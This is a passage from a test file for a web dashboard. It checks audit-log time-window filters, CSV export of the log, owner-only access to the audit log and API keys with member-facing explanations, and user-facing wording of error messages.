    expect(html).toContain("Cancelled: the run ended as cancelled");
  });

  it("keep a permalink's time window in the audit log's fields, to the second", async () => {
    const html = await (
      await page(
        "/dashboard/audit-log?from=2026-11-27T05:07:00Z&to=2026-11-27T05:07:30",
        await signIn(),
      )
    ).text();
    expect(html).not.toContain('class="notice notice-error"');
    // Empty before: the next Filter sent from= and dropped the window.
    expect(html).toContain('name="from" type="datetime-local" value="2026-11-27T05:07"');
    expect(html).toContain('name="to" type="datetime-local" value="2026-11-27T05:07:30"');
    expect(html).toContain('step="0.001"');
  });

  it("export the audit log for the times its page takes: a datetime-local value is UTC there too", async () => {
    const cookie = await signIn();
    const window = "from=2026-11-27T05:16&to=2026-11-27T05:17:30.5";
    const html = await (await page(`/dashboard/audit-log?${window}`, cookie)).text();
    expect(html).not.toContain('class="notice notice-error"');
    // The page's own link holds the API's times; a link edited by hand holds the page's (a 400).
    expect(html).toContain("from=2026-11-27T05%3A16%3A00Z&amp;to=2026-11-27T05%3A17%3A30.5Z");
    const res = await page(`/dashboard/audit-log/export?format=csv&${window}`, cookie);
    expect(res.status, await res.clone().text()).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    // What is neither is still the API's 400, in its words.
    const bad = await page("/dashboard/audit-log/export?format=csv&from=yesterday", cookie);
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain("from: must be an RFC 3339 date-time");
  });

  it("tell a member why the audit log is not theirs to read", async () => {
    const res = await page("/dashboard/audit-log", await signIn(f.member.token));
    const html = await res.text();
    expect(html).toContain("The audit log is for the project");
    // Not offered to a member: each click on it wrote a refused read into the audit log.
    const nav = (page: string) => page.match(/<nav aria-label="Sections">.*?<\/nav>/s)?.[0] ?? "";
    expect(nav(html)).toContain('href="/dashboard/runs"');
    for (const owners of ["audit-log", "api-keys", "secrets"]) {
      expect(nav(html)).not.toContain(`href="/dashboard/${owners}"`);
      const owner = await (await page("/dashboard/runs", await signIn())).text();
      expect(nav(owner)).toContain(`href="/dashboard/${owners}"`);
    }
    expect(html).not.toContain("<td");
    // The API keys page says it the same way.
    const keys = await (await page("/dashboard/api-keys", await signIn(f.member.token))).text();
    expect(keys).toContain("API keys are for the project&#39;s owners:");
  });

  it("speak of what the page calls things, not of the API's parameters", async () => {
    const html = await (await page("/dashboard/runs?cursor=edited", await signIn())).text();
    expect(html).toContain("the page link&#39;s cursor is not a page token issued by this service");
    expect(html).not.toContain("nextToken");
  });
});
